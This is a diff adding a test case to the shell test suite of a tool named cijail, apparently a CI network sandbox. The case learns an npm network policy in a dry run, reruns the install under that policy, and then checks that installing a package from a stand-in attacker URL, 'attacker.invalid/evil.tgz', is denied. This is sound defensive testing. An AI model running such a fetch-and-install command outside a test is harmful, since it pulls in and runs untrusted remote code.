@@ -53,6 +53,24 @@ t_status 1
 t_match "$err" 'deny - GET .*/express$'
 cd ..
 
+t_case 'npm install in a dry run, learned; the same from an empty cache under what was learned'
+mkdir learned && cd learned && npm init -y >/dev/null
+rm -rf "$T_TMP/cache"
+T_LIMIT=300 run cijail --dry-run --learn ./policy -- npm install express
+t_status 99
+t_true test -e node_modules/express/package.json
+lines=$(grep -cE '^[^#]' policy)
+echo "# $lines lines of policy"
+t_true test "$lines" -ge 1 -a "$lines" -le 20
+rm -rf "$T_TMP/cache" node_modules package-lock.json
+T_LIMIT=300 run cijail --fail-on-deny -p ./policy -- npm install express
+t_status 0
+t_denials 0
+t_true test -e node_modules/express/package.json
+run cijail --fail-on-deny -p ./policy -- sh -c 'npm install https://attacker.invalid/evil.tgz --fetch-retries=0; true'
+t_status 98
+cd ..
+
 t_case 'apt-get download with only the mirror allowed'
 mkdir apt && cd apt
 package=hello
